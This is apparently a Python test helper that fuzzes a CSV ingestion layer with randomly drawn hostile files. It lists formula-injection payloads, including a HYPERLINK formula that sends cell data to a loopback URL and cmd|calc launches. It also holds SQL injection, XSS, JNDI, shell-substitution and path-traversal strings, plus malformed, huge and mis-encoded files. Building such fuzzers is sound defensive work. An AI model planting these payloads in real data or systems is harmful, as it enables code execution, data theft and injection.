"""Hostile files of delimited text, drawn at random: one function for each kind."""

import csv
import io
import random
from collections.abc import Callable, Iterable, Sequence
from typing import NamedTuple

from contracts import Csv, FileFormat
from tests.unit.bronze.broken_files import FIELDS

MB = 1_000_000


class Drawn(NamedTuple):
    """A file's bytes, how it was agreed to be laid out, and the ending of its name.

    `kept` counts rows that must come in: what is hostile elsewhere in the file costs them nothing.
    """

    content: bytes
    layout: FileFormat = Csv()
    suffix: str = "csv"
    kept: int = 0


Draw = Callable[[random.Random, int], Drawn]
"""From dice and how many megabytes a large thing has to a file."""

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=IMPORTXML("http://127.0.0.1:9","//a")',
    '%0A=WEBSERVICE("http://127.0.0.1:9")',
    '="0123"',
    "'=1+1",
)
WORDS = (
    "'; DROP TABLE bronze; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{constructor.constructor('x')()}}",
    "${jndi:ldap://127.0.0.1:9/x}",
    "$(touch escaped)",
    "`touch escaped`",
    "../../../../escaped.csv",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "%s%s%n",
    "{0.__class__}",
    "__proto__",
    "&lt;!doctype&gt;",
    "&#0;&#xD800;&#x110000;&bogus;",
    "[x](javascript:alert(1))",
)
CONTROLS = (
    "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)))) + "\u2028\u2029"
)
DIRECTIONS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\u061c\ufeff\ufffe"
_SOUND = dict.fromkeys(FIELDS, "") | {"child": "900301", "since": "01/02/2025", "status": "CIN"}


def record(number: int, **cells: str) -> dict[str, str]:
    """A sound row, but for the cells that are given."""
    return _SOUND | {"ref": f"IV{900000 + number}"} | cells


def text_of(rows: Sequence[Iterable[str]], encoding: str = "utf-8") -> bytes:
    """Rows as a CSV writer writes them."""
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode(encoding, "surrogatepass")


def lines_of(*lines: str, encoding: str = "utf-8") -> bytes:
    """The header and these lines."""
    return "\n".join([",".join(FIELDS), *lines, ""]).encode(encoding, "surrogatepass")


def sound_line(number: int) -> str:
    """A sound row as a line."""
    return ",".join(record(number).values())


def _cells(dice: random.Random, choose: Callable[[], str], rows: int = 5) -> Drawn:
    """Sound keys, and what is hostile in every cell that is free text, agreed or not."""
    free = ("worker", "team", "phone", "town", "notes", "remarks")
    drawn = [
        record(n, **{name: choose() for name in dice.sample(free, dice.randrange(1, 6))})
        for n in range(rows)
    ]
    return Drawn(text_of([FIELDS, *(each.values() for each in drawn)]), kept=rows)


def formulas(dice: random.Random, _: int) -> Drawn:
    return _cells(dice, lambda: dice.choice(FORMULAS))


def words(dice: random.Random, _: int) -> Drawn:
    return _cells(dice, lambda: dice.choice(WORDS))


def directions(dice: random.Random, _: int) -> Drawn:
    return _cells(dice, lambda: "".join(dice.choices(DIRECTIONS + "abc", k=dice.randrange(1, 40))))


def towers_of_accents(dice: random.Random, _: int) -> Drawn:
    return _cells(dice, lambda: "a" + "".join(dice.choices("\u0300\u0336\u20dd", k=500)))


def controls(dice: random.Random, _: int) -> Drawn:
    return _cells(dice, lambda: "".join(dice.choices(CONTROLS + "abc", k=dice.randrange(1, 40))))


def headers_that_spell(dice: random.Random, _: int) -> Drawn:
    extra = [dice.choice((*WORDS, *FORMULAS)) for _ in range(dice.randrange(1, 20))]
    rows = [[*record(n).values(), *extra] for n in range(3)]
    return Drawn(text_of([[*FIELDS, *extra], *rows]), kept=3)


def headers_of_300_characters(dice: random.Random, _: int) -> Drawn:
    extra = [dice.choice("axZ\u0416 ") * 300 for _ in range(dice.randrange(1, 200))]
    rows = [[*record(n).values(), *extra] for n in range(3)]
    return Drawn(text_of([[*FIELDS, *extra], *rows]), kept=3)


def headers_again_and_again(dice: random.Random, _: int) -> Drawn:
    header = ",".join(FIELDS)
    lines = [header] * dice.randrange(1, 3000) + [sound_line(1)]
    return Drawn(lines_of(*lines, *dice.choice(((), (header,)))), kept=1)


def two_columns_of_one_name(dice: random.Random, _: int) -> Drawn:
    names = [*FIELDS, *dice.choices(FIELDS, k=dice.randrange(1, 500))]
    return Drawn(text_of([names, [dice.choice(WORDS) for _ in names]]))


def a_million_columns(dice: random.Random, megabytes: int) -> Drawn:
    columns = dice.choice((2_001, 16_385, 49_000, megabytes * MB // 2))
    names = [*FIELDS, *(dice.choice("xyz") for _ in range(columns))]
    rows = [",".join(record(n).values()) + "," * columns for n in range(dice.choice((1, 40)))]
    return Drawn(lines_of(",".join(names), *rows))


def rows_of_commas(dice: random.Random, megabytes: int) -> Drawn:
    width = dice.choice((99_000, 20_000, 1_000))
    lines = ["," * width] * (megabytes * MB // width)
    return Drawn(lines_of(sound_line(1), *lines, sound_line(2)), kept=1)


def a_cell_of_many_megabytes(dice: random.Random, megabytes: int) -> Drawn:
    huge = dice.choice("aZ0 \u00e9=") * (megabytes * MB)
    name = dice.choice(("worker", "notes", "town"))
    cells = record(2, **{name: dice.choice(('"{}"', "{}", '"{}')).format(huge)})
    return Drawn(lines_of(sound_line(1), ",".join(cells.values()), sound_line(3)), kept=1)


def no_line_end(dice: random.Random, megabytes: int) -> Drawn:
    piece = dice.choice((b"a", b"a,", b'"', b'",', b"\xe9", b"1")) * 1000
    return Drawn(piece * (megabytes * MB // len(piece)))


def nothing_but_line_ends(dice: random.Random, megabytes: int) -> Drawn:
    end = dice.choice(("\n", "\r", "\r\n", " \n", "\n\r", "\x0c\n"))
    blank = end * (megabytes * MB // 10 // len(end))
    return Drawn((dice.choice(("", lines_of(sound_line(1)).decode())) + blank).encode())


def marks_that_open_without_end(dice: random.Random, megabytes: int) -> Drawn:
    line = dice.choice(('a","', '1,"', '"', '1,"x","', '","","'))
    return Drawn(lines_of(sound_line(1), *[line] * (megabytes * MB // 10 // len(line))), kept=1)


def one_mark_and_a_sea_of_lines(dice: random.Random, megabytes: int) -> Drawn:
    sea = ["", "x", sound_line(7)][dice.randrange(3)]
    block = [',"', *[sea] * 40_000]
    return Drawn(lines_of(sound_line(1), *block * max(megabytes // 10, 1)), kept=1)


def keys_that_are_hard_to_judge(dice: random.Random, megabytes: int) -> Drawn:
    key = dice.choice(
        ("1" * 90_000 + " x", "1 " * 45_000, "9" * 90_000, "a1" * 45_000 + " !", "=" * 90_000)
    )
    rows = [",".join(record(n, ref=key, since=key[:5]).values()) for n in range(megabytes)]
    return Drawn(lines_of(sound_line(1), *rows, sound_line(2)), kept=1)


def dates_that_are_hard_to_judge(dice: random.Random, megabytes: int) -> Drawn:
    date = dice.choice(
        ("1" + "-" * 90_000, "1/1" + "/ " * 45_000, "'" * 90_000, "1/1/11" + "." * 90_000)
    )
    rows = [",".join(record(n, since=date).values()) for n in range(megabytes)]
    return Drawn(lines_of(sound_line(1), *rows), kept=1)


def encodings_that_break(dice: random.Random, _: int) -> Drawn:
    text = lines_of(*map(sound_line, range(20))).decode()
    content = text.encode(
        dice.choice(("utf-8", "utf-8-sig", "utf-16", "utf-32", "utf-7", "cp500", "utf-16-be"))
    )
    end = dice.choice(
        (b"", b"\xc0\xaf\n", b"\xed\xa0\x80,\n", b"\xff\xfe", b"\xf4\x90\x80\x80\n", b"\x00\xd8")
    )
    return Drawn(content[: len(content) - dice.randrange(4)] + end)


def something_else(dice: random.Random, _: int) -> Drawn:
    heads = (
        b"%PDF-1.7\n",
        b"\x1f\x8b",
        b"\x7fELF",
        b"MZ",
        b"SQLite format 3\0",
        b"PAR1",
        b"",
        b"PK\x03\x04",
    )
    return Drawn(dice.choice(heads) + dice.randbytes(dice.randrange(1, 5000)))


KINDS: dict[str, Draw] = {
    "formula injection": formulas,
    "SQL, HTML, templates and paths in cells": words,
    "right-to-left and invisible characters": directions,
    "towers of accents": towers_of_accents,
    "control characters": controls,
    "headers that spell SQL, HTML or a path": headers_that_spell,
    "headers of 300 characters": headers_of_300_characters,
    "the header again and again": headers_again_and_again,
    "columns of one name": two_columns_of_one_name,
    "a million columns": a_million_columns,
    "rows of commas": rows_of_commas,
    "a cell of many megabytes": a_cell_of_many_megabytes,
    "no line end": no_line_end,
    "nothing but line ends": nothing_but_line_ends,
    "quotation marks that open without end": marks_that_open_without_end,
    "a quotation mark before thousands of lines": one_mark_and_a_sea_of_lines,
    "keys that are hard to judge": keys_that_are_hard_to_judge,
    "dates that are hard to judge": dates_that_are_hard_to_judge,
    "broken encodings": encodings_that_break,
    "something else than its name says": something_else,
}
"""Hostile delimited text, by what is hostile in it."""
